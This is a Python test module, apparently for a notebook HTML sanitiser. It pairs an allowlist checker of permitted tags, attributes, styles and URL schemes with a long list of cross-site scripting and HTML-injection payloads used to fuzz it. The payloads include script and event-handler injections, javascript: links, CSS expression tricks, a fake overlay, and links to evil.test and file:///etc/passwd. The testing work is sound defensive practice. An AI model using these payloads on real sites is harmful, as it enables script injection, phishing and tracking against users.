"""HTML that tries to act, and a judge of what is shown: `assert_harmless` reads HTML as a browser would.

It knows what is allowed, not what is forbidden.
"""

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import strategies as st

from codeagent_nb.rendering.cleaning.html_outputs import STYLES


def names(text: str) -> set[str]:
    return set(re.findall(r"[\w-]+", text))


TAGS = names(
    "a abbr acronym area article aside b bdi bdo blockquote br caption center cite code col colgroup data dd del"
    " details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li map mark"
    " nav ol p pre q rp rt rtc ruby s samp small span strike strong sub summary sup table tbody td th thead time tr tt"
    " u ul var wbr"
)
ATTRIBUTES = names(
    "align alt char charoff class colspan datetime dir headers height href hreflang rel rowspan scope size span src"
    " start style summary target title width"
)
CLASSES = {"dataframe", "mathjax_ignore", "tex2jax_ignore"}
PROPERTIES = names(
    "background background-color border border-collapse border-radius color font-family font-size font-style"
    " font-weight height line-height margin max-width overflow-wrap overflow-x padding text-align text-decoration"
    " vertical-align white-space width"
) | set(STYLES)


class Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        self.tags.append(tag)
        for name, value in attrs:
            assert name in ATTRIBUTES, name
            getattr(self, f"judge_{name}", lambda _: None)(value or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl}")

    handle_pi = unknown_decl = handle_decl

    def judge_href(self, value: str) -> None:
        scheme = re.match(r"[a-z][a-z0-9+.-]*:", re.sub(r"[\x00-\x20]", "", value).lower())
        assert scheme is None or scheme[0] in {"http:", "https:", "mailto:"}, value

    def judge_src(self, value: str) -> None:
        assert value.strip().lower().startswith("data:image/"), value

    def judge_class(self, value: str) -> None:
        assert set(value.split()) <= CLASSES, value

    def judge_style(self, value: str) -> None:
        assert not re.search(r"url|expression|[\\@{}<>\"']|/\*", value, re.IGNORECASE), value
        for declaration in filter(None, value.split(";")):
            assert declaration.partition(":")[0].strip().lower() in PROPERTIES, declaration


def judged(text: str) -> Judge:
    judge = Judge()
    judge.feed(text)
    judge.close()
    return judge


def assert_harmless(text: str) -> str:
    """Return the text that is seen."""
    return "".join(judged(text).text)


def display(metadata: Any = None, **data: Any) -> dict[str, Any]:
    mimes = {name.replace("__", "/").replace("_", "+"): content for name, content in data.items()}
    return {"output_type": "display_data", "data": mimes, "metadata": metadata or {}}


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.test/pixel.png'>",
    "<img srcset='http://evil.test/x 2x' src='data:text/html,x'>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:1'>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:1'></object><embed src='x.swf'>",
    "<form action='http://evil.test'><input autofocus onfocus=alert(1)><button formaction=javascript:1>x</form>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'><base href='http://evil.test/'>",
    "<link rel=stylesheet href='http://evil.test/x.css'><style>@import 'http://evil.test';body{display:none}</style>",
    "<a href='javascript:alert(1)'>x</a><a href='JaVa\tScRiPt:alert(1)'>x</a><a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='da\nta:text/html,<script>alert(1)</script>'>x</a><a href='\x01data:text/html,x'>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>x</a><a href='vscode://x'>x</a><a href='blob:x'>x</a>",
    "<blockquote cite='javascript:1'>x</blockquote><q cite='da&#9;ta:x'>x</q>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>Session expired</div>",
    "<div style='background:url(http://evil.test);behavior:url(x);-moz-binding:url(x)'>x</div>",
    "<div style='width:expression(alert(1));color:red\\;position:fixed;background-image:image-set(\"x\" 1x)'>x</div>",
    "<div style='color:red/*;*/;margin:-999px;transform:scale(99)'>x</div>",
    "<div class='jp-Dialog lm-Widget' id='main' name='x' data-commandlinker-command='x' contenteditable>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template><textarea><script>1</script></textarea><xmp><b onclick=1></xmp>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>]]><?xml <script>?><!DOCTYPE x>",
    "<style>#T_x{position:fixed;color:red}</style><b id=\"T_x\" onclick='1'>x</b>",
    '<style>#T_x{a:\'}</style><b id="T_x">x</b><style>#T_y{color:red" onclick="alert(1)}</style><b id="T_y">x</b>',
    "</pre></code></details></div><script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><video src=x onerror=1><audio autoplay src=x>",
    "<b\x00 onclick=1>x</b><a\x0chref=javascript:1>x</a><img/src=x/onerror=1>",
    "[x](javascript:alert(1)) [x](JAVASCRIPT&colon;alert(1)) [x](<java&#9;script:1>) [x](vscode://x) [x](file:///x)",
    "[x](data:text/html,x) [x](data:image/svg+xml;base64,AA) [x]( &#1;javascript:1) [x](\\javascript:1)",
    '![x](http://evil.test/pixel.png) ![<script>](javascript:1 "\'><script>")',
    "[x][1] [1]\n\n[1]: javascript:alert(1) \"'onmouseover='alert(1)\"\n",
    '<javascript:alert(1)> <https://evil.test/?"onclick=alert(1)> <data:text/html,x>',
    '```"><script>alert(1)</script>\nx\n```\n~~~ {onclick=1}\n</code></pre><script>1</script>\n~~~',
    "| <b onclick=1> | [x](javascript:1) |\n|:-:|--|\n| `<script>` | ![x](http://evil.test) |",
    "$\\href{javascript:alert(1)}{x}$ \\(\\href{javascript:1}{x}\\)",
    "> > > 1. - <script>\n\n    <script>alert(1)</script>\n\n&lt;script&gt; &#60;script&#62; \\<script>",
]
snippets = st.lists(st.sampled_from(HOSTILE) | st.text(max_size=20), max_size=4).map("".join)
broken = st.tuples(st.sampled_from(HOSTILE), st.integers(0, 200), st.integers(0, 200)).map(
    lambda t: t[0][t[1] :][: t[2]]
)
words = st.sampled_from(re.findall(r"[\w:-]+|\W", "".join(HOSTILE)))
hostile = snippets | broken | st.lists(words, max_size=25).map("".join) | st.text()
